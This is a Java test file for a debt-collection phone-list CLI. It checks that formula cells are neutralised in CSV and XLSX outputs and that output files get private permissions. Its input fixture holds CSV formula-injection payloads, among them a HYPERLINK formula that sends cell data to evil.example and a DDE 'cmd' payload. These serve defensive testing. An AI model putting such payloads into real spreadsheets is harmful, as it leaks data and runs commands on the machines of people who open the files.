package io.dialready.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.opencsv.CSVReader;
import com.opencsv.CSVReaderBuilder;
import com.opencsv.RFC4180ParserBuilder;
import io.dialready.output.FormulaGuard;
import io.dialready.run.ExitCodes;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.FileSystems;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
import java.util.zip.ZipFile;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Outputs are safe to open and to leave on a shared server: input cells a spreadsheet would run as formulas are
 * neutralised in every CSV output (and never become formulas in the XLSX ones), our own E.164 columns stay raw, the
 * switch turns it off; every output file is created rw-r----- whatever the umask.
 */
class OutputSafetyTest {

    /** Formula-like cells in every input column the outputs copy: key, name, phones, an unmapped column and its name. */
    static final String INPUT = String.join(
            "\r\n",
            "CONTRATO;NOME;VALOR;VENCIMENTO;DDD1;FONE1;TELEFONES;@NOTA",
            "=1+1;\"=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Clique\"\")\";100,00;01/11/2026;11;98765-4321;+55 21 99876-5432;-nota",
            "F2;+MARIA SOUZA;-50,00;01/10/2026;21;99876-5433;-99;@x",
            "@F3;\tANA -LIMA;10,00;01/11/2026;31;91234-5678;=2+3;r",
            "-F4;=cmd|' /C calc'!A0;10,00;01/11/2026;41;99123-4567;;ok",
            "");

    /** Our own E.164 columns (one number, or a '|'-separated list): the only cells allowed to start with '+'. */
    private static final Pattern E164 = Pattern.compile("\\+\\d{8,15}(\\|\\+\\d{8,15})*");

    @TempDir
    Path dir;

    private Path spec(boolean neutralise, String format) throws Exception {
        Files.writeString(dir.resolve("carteira.csv"), INPUT, StandardCharsets.UTF_8);
        return Files.writeString(dir.resolve("job.yml"), """
                country: BR
                input:
                  path: carteira.csv
                columns:
                  key: CONTRATO
                  name: NOME
                  amount: VALOR
                  due_date: VENCIMENTO
                phones:
                  - ddd: DDD1
                    number: FONE1
                  - column: TELEFONES
                lookup:
                  sandbox:
                    active_share: 1
                output:
                  format: %s
                  neutralise_formulas: %s
                  profiles: [per-debtor, vicidial, vicidial-pipe, genesys]
                  vicidial: {list_id: 101}
                campaigns:
                  whatsapp:
                    templates: {"0-30": a, "31-90": b, "90+": c, "unknown": d}
                  sms_optin:
                    business_number: "(11) 3456-7000"
                    text: "{name}: {link}"
                    whatsapp_text: "Contrato {key}"
                """.formatted(format, neutralise));
    }

    private CliRun enrich(Path spec, Path out) {
        return CliRun.of(
                "enrich",
                "--job",
                spec.toString(),
                "--output",
                out.toString(),
                "--data",
                dir.resolve("data").toString(),
                "--log-file",
                dir.resolve("log.txt").toString(),
                "--as-of",
                "2026-11-23",
                "--quiet");
    }

    private static List<String[]> cells(Path file, char delimiter) throws Exception {
        String text = Files.readString(file, StandardCharsets.UTF_8);
        List<String[]> rows = new ArrayList<>();
        if (delimiter == '|') {
            for (String line : text.split("\n")) {
                rows.add(line.split("\\|", -1));
            }
            return rows;
        }
        try (CSVReader r = new CSVReaderBuilder(new StringReader(text))
                .withCSVParser(
                        new RFC4180ParserBuilder().withSeparator(delimiter).build())
                .build()) {
            rows.addAll(r.readAll());
        }
        return rows;
    }

    private static final List<String> CSV_OUTPUTS = List.of(
            "carteira.enriched.csv",
            "carteira.dialer.csv",
            "carteira.rejects.csv",
            "carteira.per-debtor.csv",
            "carteira.vicidial.csv",
            "carteira.genesys.csv",
            "carteira.whatsapp-campaign.csv",
            "carteira.sms-optin.csv");

    @Test
    void noCellOfAnyCsvOutputStartsAFormulaExceptOurOwnE164Phones() throws Exception {
        Path out = dir.resolve("out");
        CliRun run = enrich(spec(true, "both"), out);
        assertThat(run.exitCode()).as(run.err()).isZero();
        List<String> files = new ArrayList<>(CSV_OUTPUTS);
        files.add("carteira.vicidial.txt");
        int neutralised = 0;
        int rawPhones = 0;
        for (String name : files) {
            for (String[] row : cells(out.resolve(name), name.endsWith(".txt") ? '|' : ',')) {
                for (String cell : row) {
                    if (FormulaGuard.risky(cell)) {
                        assertThat(cell)
                                .as(name + ": a cell starting a formula")
                                .matches(E164);
                        rawPhones++;
                    }
                    // VICIdial's files use VICIdial's own safe form, a leading backslash its loaders remove
                    char mark = name.contains("vicidial") ? '\\' : '\'';
                    if (cell.length() > 1 && cell.charAt(0) == mark && FormulaGuard.risky(cell.substring(1))) {
                        neutralised++;
                    }
                }
            }
        }
        assertThat(rawPhones).as("E.164 phones stay raw").isGreaterThan(5);
        assertThat(neutralised).isGreaterThan(15);

        String enriched = Files.readString(out.resolve("carteira.enriched.csv"));
        assertThat(enriched.lines().findFirst().orElseThrow())
                .endsWith(",'@NOTA,wa_best_phone,wa_best_status,"
                        + "wa_active_phones,phones_ranked,segment,priority,wa_provider");
        assertThat(enriched)
                .contains("'=1+1,\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Clique\"\")\",\"100,00\"")
                .contains("'+55 21 99876-5432,'-nota,+5511987654321")
                .contains("F2,'+MARIA SOUZA,\"'-50,00\"")
                .contains("'@F3,'\tANA -LIMA")
                .contains("'-F4,'=cmd|' /C calc'!A0");
        assertThat(Files.readString(out.resolve("carteira.dialer.csv")))
                .contains("\n'=1+1,1,+55")
                .contains("\n'@F3,1,+5531912345678")
                .contains("\n'-F4,1,+5541991234567");
        assertThat(Files.readString(out.resolve("carteira.rejects.csv")))
                .contains(",TELEFONES,'-99,")
                .contains(",TELEFONES,'=2+3,");
        assertThat(Files.readString(out.resolve("carteira.per-debtor.csv"))).contains("'+MARIA SOUZA");
        // VICIdial keeps a leading ' (so the key would no longer match the CRM's) but removes a backslash: its safe
        // form
        assertThat(Files.readString(out.resolve("carteira.vicidial.txt")))
                .startsWith("\\=1+1||101|55|")
                .contains("|\\+MARIA||SOUZA|")
                .contains("|ANA||\\-LIMA|"); // VICIdial's lines turn tabs into spaces (trimmed) first
        assertThat(Files.readString(out.resolve("carteira.vicidial.csv")))
                .doesNotContain("'=")
                .contains("\\@F3,,101,55,31912345678,,ANA,,\\-LIMA,");
        assertThat(Files.readString(out.resolve("carteira.sms-optin.csv"))).contains("'-F4,+5541991234567,'=cmd");

        // XLSX: converted from the CSV files, every cell text (or a number for rank/priority), never a formula
        for (String name : List.of("carteira.enriched.xlsx", "carteira.dialer.xlsx")) {
            try (XSSFWorkbook wb = new XSSFWorkbook(out.resolve(name).toFile())) {
                Sheet sheet = wb.getSheetAt(0);
                int texts = 0;
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType())
                                .as(name + " " + cell.getAddress())
                                .isIn(CellType.STRING, CellType.NUMERIC);
                        texts++;
                    }
                }
                assertThat(texts).isGreaterThan(20);
            }
            try (ZipFile zip = new ZipFile(out.resolve(name).toFile())) {
                String sheetXml = new String(
                        zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml"))
                                .readAllBytes(),
                        StandardCharsets.UTF_8);
                assertThat(sheetXml).doesNotContain("<f>").doesNotContain("<f ");
            }
        }
    }

    @Test
    void switchedOffTheInputCellsAreCopiedRaw() throws Exception {
        Path out = dir.resolve("raw");
        CliRun run = enrich(spec(false, "csv"), out);
        assertThat(run.exitCode()).as(run.err()).isZero();
        String enriched = Files.readString(out.resolve("carteira.enriched.csv"));
        assertThat(enriched)
                .contains("\n=1+1,\"=HYPERLINK(")
                .contains(",@NOTA,")
                .doesNotContain("'=");
        assertThat(Files.readString(out.resolve("carteira.dialer.csv"))).contains("\n=1+1,1,+55");
        assertThat(Files.readString(out.resolve("carteira.rejects.csv"))).contains(",TELEFONES,-99,");
    }

    @Test
    void outputsAreReadableByOwnerAndGroupOnlyWhateverTheUmask() throws Exception {
        assumeTrue(FileSystems.getDefault().supportedFileAttributeViews().contains("posix"), "POSIX file system");
        Path spec = spec(true, "both");
        // umask 000 would give rw-rw-rw- to a file created with the defaults; 077 would take the group's read away
        for (String umask : List.of("000", "077")) {
            Path out = dir.resolve("umask-" + umask);
            Path log = dir.resolve("proc-" + umask + ".txt");
            List<String> command = new ArrayList<>(List.of("sh", "-c", "umask " + umask + " && exec \"$0\" \"$@\""));
            command.addAll(ChildJvm.dialready(
                    "256m",
                    "enrich",
                    "--job",
                    spec.toString(),
                    "--output",
                    out.toString(),
                    "--data",
                    dir.resolve("data-" + umask).toString(),
                    "--log-file",
                    dir.resolve("log-" + umask + ".txt").toString(),
                    "--quiet"));
            Process p = new ProcessBuilder(command)
                    .redirectErrorStream(true)
                    .redirectOutput(log.toFile())
                    .start();
            assertThat(p.waitFor(120, TimeUnit.SECONDS)).isTrue();
            assertThat(p.exitValue()).as(Files.readString(log)).isZero();
            List<String> names = new ArrayList<>(CSV_OUTPUTS);
            names.addAll(List.of(
                    "carteira.vicidial.txt", "carteira.enriched.xlsx", "carteira.dialer.xlsx", "carteira.report.json"));
            for (String name : names) {
                assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(out.resolve(name))))
                        .as(name + " with umask " + umask)
                        .isEqualTo("rw-r-----");
            }
        }
    }

    @Test
    void partFilesOfAnInterruptedRunAreAlreadyPrivate() throws Exception {
        assumeTrue(FileSystems.getDefault().supportedFileAttributeViews().contains("posix"), "POSIX file system");
        // a row longer than the reader takes, after a good chunk: the run stops with its part files in place
        StringBuilder input = new StringBuilder("CONTRATO;NOME;FONE\r\n");
        for (int i = 0; i < 10; i++) {
            input.append("K")
                    .append(i)
                    .append(";ANA;11 98765-43")
                    .append(10 + i)
                    .append("\r\n");
        }
        input.append("BIG;").append("X".repeat(1_100_000)).append(";11 98765-4399\r\n");
        Files.writeString(dir.resolve("big.csv"), input);
        Path spec = Files.writeString(dir.resolve("big.yml"), """
                country: BR
                input:
                  path: big.csv
                columns:
                  key: CONTRATO
                  name: NOME
                phones:
                  - column: FONE
                run:
                  chunk_size: 5
                """);
        Path out = dir.resolve("parts");
        CliRun run = enrich(spec, out);
        assertThat(run.exitCode()).as(run.err()).isEqualTo(ExitCodes.INPUT_UNREADABLE);
        for (String name : List.of("big.enriched.csv.part", "big.rejects.csv.part")) {
            assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(out.resolve(name))))
                    .as(name)
                    .isEqualTo("rw-r-----");
        }
        assertThat(Files.readString(out.resolve("big.enriched.csv.part"))).contains("K4,ANA");
    }
}
